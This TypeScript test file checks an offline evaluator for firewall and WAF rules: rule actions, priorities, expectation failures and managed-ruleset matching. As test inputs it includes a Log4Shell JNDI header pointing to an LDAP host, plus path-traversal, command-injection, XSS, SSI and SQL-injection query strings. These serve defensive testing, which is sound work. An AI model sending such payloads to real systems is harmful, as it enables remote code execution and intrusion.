/**
 * Offline evaluation through the manifest's zone model: the case table (every action, priority
 * order, paused rules, shared filters, IP sets, `matches`, missing headers), how expectations are
 * judged (log and bypass, allowed, matched lists), failures that name the matched rule, and the
 * managed rulesets and previous WAF as far as the catalog describes them.
 */
import { describe, expect, it } from 'vitest';
import { buildZoneModel, evaluateOffline, runOffline, type TestCase } from '../../src/policy/index.js';
import { casesOf, desiredOf, firewallManifest, wafManifest } from './fixtures.js';
import { rows, tableCasesYaml } from './table.js';

const model = buildZoneModel(desiredOf(firewallManifest));
const caseOf = (request: TestCase['request'], expectation: TestCase['expect']): TestCase =>
  ({ name: 'c', request, expect: expectation, location: { file: 't.yaml', line: 3, column: 5 } });

describe('the case table', () => {
  const results = runOffline(model, casesOf(tableCasesYaml()).cases);

  it.each(rows.map((row, i) => [row.name, i] as const))('%s', (_name, i) => {
    const row = rows[i]!;
    const r = results[i]!;
    expect(r.actual).toEqual({ action: row.action, decided_by: row.action === null ? null : 'firewall_rules', rule: row.rule, matched: row.matched });
    expect(r.failures).toEqual([]);
    expect(r.pass).toBe(true);
  });

  it('says why: the deciding rule with its expression', () => {
    const blocked = results[0]!;
    expect(blocked.why).toBe('firewall_rules.block-admin (block): starts_with(http.request.uri.path, "/admin")');
    expect(results[4]!.why).toBe('no rule matched the request');
    expect(results[6]!.why).toBe('no rule stopped the request; firewall_rules.log-api (log): http.request.uri.path matches "^/api/v[0-9]+/"');
  });
});

describe('judging expectations', () => {
  const judge = (request: TestCase['request'], expectation: TestCase['expect']) => runOffline(model, [caseOf(request, expectation)])[0]!;

  it('a wrong action fails and names the rule that acted', () => {
    const r = judge({ path: '/admin', ip: '203.0.113.5' }, { action: 'challenge' });
    expect(r.pass).toBe(false);
    expect(r.failures).toEqual(['expected action challenge, got block by firewall_rules.block-admin']);
  });

  it('log and bypass pass when such a rule matched and the request went on', () => {
    expect(judge({ path: '/api/v1/x', ip: '192.0.2.9' }, { action: 'bypass' }).pass).toBe(true);
    expect(judge({ path: '/api/v2/x', headers: { 'X-Api-Key': 's3cret' } }, { action: 'log' }).pass).toBe(true);
    const stopped = judge({ path: '/admin', ip: '203.0.113.5' }, { action: 'log' });
    expect(stopped.failures).toEqual(['expected action log and the request to go on, got block by firewall_rules.block-admin']);
    expect(judge({ path: '/', ip: '203.0.113.5' }, { action: 'log' }).failures).toEqual(['expected a rule with action log to match, nothing matched']);
  });

  it('allowed: an allow rule lets the request through, a block stops it', () => {
    expect(judge({ path: '/admin', ip: '192.0.2.1' }, { allowed: true }).pass).toBe(true);
    expect(judge({ path: '/admin', ip: '203.0.113.5' }, { allowed: false }).pass).toBe(true);
    expect(judge({ path: '/admin', ip: '203.0.113.5' }, { allowed: true }).failures).toEqual(['expected the request to be allowed, got block by firewall_rules.block-admin']);
    expect(judge({ path: '/' , ip: '203.0.113.5'}, { allowed: false }).failures).toEqual(['expected the request to be stopped, got no action (the request reaches the origin)']);
  });

  it('matched: every name must have matched; an empty list means nothing may match', () => {
    expect(judge({ path: '/admin', ip: '192.0.2.1' }, { matched: ['firewall_rules.log-admin', 'firewall_rules.allow-office'] }).pass).toBe(true);
    expect(judge({ path: '/admin', ip: '192.0.2.1' }, { matched: ['firewall_rules.block-admin'] }).failures)
      .toEqual(['expected firewall_rules.block-admin to match, matched: firewall_rules.log-admin, firewall_rules.allow-office']);
    expect(judge({ path: '/admin', ip: '192.0.2.1' }, { matched: [] }).failures)
      .toEqual(['expected no rule to match, matched: firewall_rules.log-admin, firewall_rules.allow-office']);
  });

  it('reports every expectation that fails, with the case location', () => {
    const r = judge({ path: '/admin', ip: '203.0.113.5' }, { action: 'allow', allowed: true, matched: ['firewall_rules.allow-office'] });
    expect(r.failures).toHaveLength(3);
    expect(r.location).toEqual({ file: 't.yaml', line: 3, column: 5 });
  });
});

describe('request defaults', () => {
  it('the host defaults to the zone name, and a case may set any catalog field', () => {
    const desired = desiredOf(`zone: hosts.example.com
plan: enterprise
waf_migration: pending
managed_rules: []
firewall_rules:
  only-this-host:
    action: block
    filter:
      expression: http.host eq "hosts.example.com" and cf.threat_score gt 10
`);
    const m = buildZoneModel(desired);
    expect(evaluateOffline(m, { host: 'hosts.example.com', fields: { 'cf.threat_score': 40 } }).action).toBe('block');
    const [withDefault] = runOffline(m, [caseOf({ fields: { 'cf.threat_score': 40 } }, { action: 'block' })]);
    expect(withDefault!.pass).toBe(true);
    expect(runOffline(m, [caseOf({ host: 'other.example.com', fields: { 'cf.threat_score': 40 } }, { allowed: true })])[0]!.pass).toBe(true);
  });
});

describe('managed rulesets and the previous WAF (as far as the catalog describes them)', () => {
  const waf = buildZoneModel(desiredOf(wafManifest));
  const log4j = { headers: { 'User-Agent': 'Mozilla/5.0', 'X-Api-Version': '${jndi:ldap://203.0.113.1/a}' } };

  it('a rule override to log only logs; the previous WAF (not migrated) still blocks', () => {
    const v = evaluateOffline(waf, log4j);
    expect(v.matched.map((m) => [m.name, m.action])).toEqual([
      ['managed_rules.managed.5f6744fa026a4638bda5b3d7d5e015dd', 'log'],
      ['previous_waf.cloudflare.100514', 'block'],
    ]);
    expect([v.action, v.decided_by, v.rule]).toEqual(['block', 'previous_waf', 'previous_waf.cloudflare.100514']);
  });

  it('names managed matches by the deployment\'s ref and accepts the ruleset as a whole', () => {
    const [r] = runOffline(waf, [caseOf({ headers: { 'User-Agent': 'Mozilla/5.0' }, path: '/x', query: 'a=../../etc/passwd&b=/bin/sh&c=<img src=x>&d=/**/&e=%0d%0a' }, { action: 'block', matched: ['managed_rules.owasp-strict'] })]);
    expect(r!.pass).toBe(true);
    expect(r!.actual.rule).toBe('managed_rules.owasp-strict.6179ae15870a4bb7b2d480d4843b323c');
    expect(r!.why).toMatch(/; managed OWASP anomaly score \d+ >= threshold 25$/);
  });

  it('a bypass of waf skips the previous WAF only', () => {
    const v = evaluateOffline(waf, { ...log4j, headers: { ...log4j.headers, 'User-Agent': 'monitor/1.0' } });
    expect(v.action).toBeNull();
    expect(v.matched.map((m) => m.name)).toEqual(['firewall_rules.skip-waf-for-monitoring', 'managed_rules.managed.5f6744fa026a4638bda5b3d7d5e015dd']);
    expect(v.notes).toContain('previous WAF skipped: a firewall rule bypasses waf (the previous WAF)');
  });

  it('the previous OWASP package in simulate logs when its threshold is reached', () => {
    const v = evaluateOffline(waf, { path: '/x', query: "a=../x&b=;cat x&d=<!--#exec&e=%00&f=%zz&g=http://192.0.2.4/x&base_path=http://x&h=' or '1'='1&j=javascript:x&k=<img>&l=id=-1 union select" });
    expect(v.matched.some((m) => m.name === 'previous_waf.owasp.981176' && m.action === 'log')).toBe(true);
    expect(v.matched.find((m) => m.name === 'previous_waf.owasp.981176')!.aliases).toContain('previous_waf.owasp');
  });
});
